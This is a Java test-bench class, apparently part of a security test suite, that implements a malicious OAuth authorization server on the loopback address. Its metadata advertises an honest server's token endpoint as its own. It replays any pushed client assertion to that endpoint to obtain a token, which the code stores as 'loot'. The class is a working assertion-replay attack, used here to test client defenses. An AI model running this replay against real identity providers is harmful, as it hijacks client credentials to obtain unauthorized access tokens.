package com.tailspin.surveys.workshop.bench;

import com.sun.net.httpserver.HttpExchange;
import com.sun.net.httpserver.HttpServer;
import com.tailspin.surveys.idp.directory.AuthorityUrls;
import com.tailspin.surveys.workshop.assertion.JudgedExchange;
import com.tailspin.surveys.workshop.assertion.TokenRequestSender;
import java.io.IOException;
import java.io.OutputStream;
import java.io.UncheckedIOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.URLDecoder;
import java.nio.charset.StandardCharsets;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.atomic.AtomicReference;

/**
 * A malicious authorization server: its metadata declares an honest server's token endpoint as its own, and it forwards
 * any assertion pushed to it. Listens on the loopback address for one run.
 */
final class HostileServer implements AutoCloseable {

    private static final byte[] LOOPBACK = {127, 0, 0, 1};
    private static final String PUSHED =
            "{\"request_uri\":\"urn:ietf:params:oauth:request_uri:nothing\",\"expires_in\":60}";
    private static final int LONGEST = 64 * 1024;

    private final AuthorityUrls honest;
    private final TokenRequestSender requests;
    private final HttpServer server;
    private final ExecutorService threads = Executors.newSingleThreadExecutor();
    private final AtomicReference<JudgedExchange> loot = new AtomicReference<>();

    private HostileServer(AuthorityUrls honest, TokenRequestSender requests) throws IOException {
        this.honest = honest;
        this.requests = requests;
        this.server = HttpServer.create(new InetSocketAddress(InetAddress.getByAddress(LOOPBACK), 0), 0);
        server.setExecutor(threads);
        server.createContext("/.well-known/openid-configuration", exchange -> answer(exchange, 200, metadata()));
        server.createContext("/par", this::push);
        server.start();
    }

    /** Starts a server on any free port. */
    static HostileServer besides(AuthorityUrls honest, TokenRequestSender requests) {
        try {
            return new HostileServer(honest, requests);
        } catch (IOException e) {
            throw new UncheckedIOException("no port is free on the loopback address", e);
        }
    }

    String issuer() {
        return "http://127.0.0.1:" + server.getAddress().getPort();
    }

    String pushEndpoint() {
        return issuer() + "/par";
    }

    String metadata() {
        return """
                {
                  "issuer": "%s",
                  "pushed_authorization_request_endpoint": "%s",
                  "token_endpoint": "%s"
                }""".formatted(issuer(), pushEndpoint(), honest.tokenEndpoint());
    }

    /** The result of forwarding the pushed assertion; empty if nothing was pushed. */
    Optional<JudgedExchange> loot() {
        return Optional.ofNullable(loot.get());
    }

    @Override
    public void close() {
        server.stop(0);
        threads.shutdownNow();
    }

    private void push(HttpExchange exchange) throws IOException {
        Map<String, String> form = form(exchange);
        // The whole attack: the honest server accepts the assertion if it is the audience.
        loot.set(requests.post(
                honest.tokenEndpoint(),
                List.of(
                        Map.entry("grant_type", "client_credentials"),
                        Map.entry("scope", "api://surveys/.default"),
                        Map.entry("client_id", form.getOrDefault("client_id", "")),
                        Map.entry("client_assertion_type", form.getOrDefault("client_assertion_type", "")),
                        Map.entry("client_assertion", form.getOrDefault("client_assertion", "")))));
        answer(exchange, 201, PUSHED);
    }

    private static Map<String, String> form(HttpExchange exchange) throws IOException {
        String body = new String(exchange.getRequestBody().readNBytes(LONGEST), StandardCharsets.UTF_8);
        Map<String, String> form = new LinkedHashMap<>();
        for (String pair : body.split("&", -1)) {
            String[] parts = pair.split("=", 2);
            form.put(parts[0], parts.length < 2 ? "" : URLDecoder.decode(parts[1], StandardCharsets.UTF_8));
        }
        return form;
    }

    private static void answer(HttpExchange exchange, int status, String json) throws IOException {
        byte[] body = json.getBytes(StandardCharsets.UTF_8);
        exchange.getResponseHeaders().set("Content-Type", "application/json");
        exchange.sendResponseHeaders(status, body.length);
        try (OutputStream out = exchange.getResponseBody()) {
            out.write(body);
        }
    }
}
